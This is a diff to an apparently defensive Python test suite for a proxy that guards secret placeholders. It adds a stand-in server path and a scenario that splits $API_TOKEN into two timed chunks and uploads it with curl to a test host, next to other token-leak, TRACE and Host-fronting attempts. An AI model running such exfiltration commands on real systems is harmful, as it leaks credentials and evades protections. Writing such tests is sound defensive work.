@@ -198,6 +198,8 @@ async def answer_as_an_enemy(head: bytes, reader: asyncio.StreamReader, writer: 
     elif path == b"/closes":
         writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
         writer.close()
+    elif path == b"/never":
+        await reader.read()
     elif path == b"/silent":
         await reader.read()
         silent_ended.set()
@@ -475,6 +477,8 @@ async def scenarios(folder: Path) -> None:
     await holding.run("placeholder in a URL", f'{curl} "https://secret.test/?q=$API_TOKEN"')
     await holding.run("placeholder in a body", f'{curl} -d "q=$API_TOKEN" https://secret.test/')
     await holding.run("body", f"head -c 300000 /dev/zero | {curl} --data-binary @- https://secret.test/ | wc -c")
+    halves = '{ printf %s "${API_TOKEN%??????}"; sleep 0.2; printf %s "${API_TOKEN#"${API_TOKEN%??????}"}"; }'
+    await holding.run("placeholder in two chunks", f"{halves} | {curl} -T - https://secret.test/never")
     await holding.run("trace", f"{curl} -X TRACE https://secret.test/")
     await holding.run("fronting", f'{curl} -H "Host: denied.test" https://secret.test/')
     (workspace / "odd.py").write_bytes(Path(__file__).with_name("odd_requests.py").read_bytes())
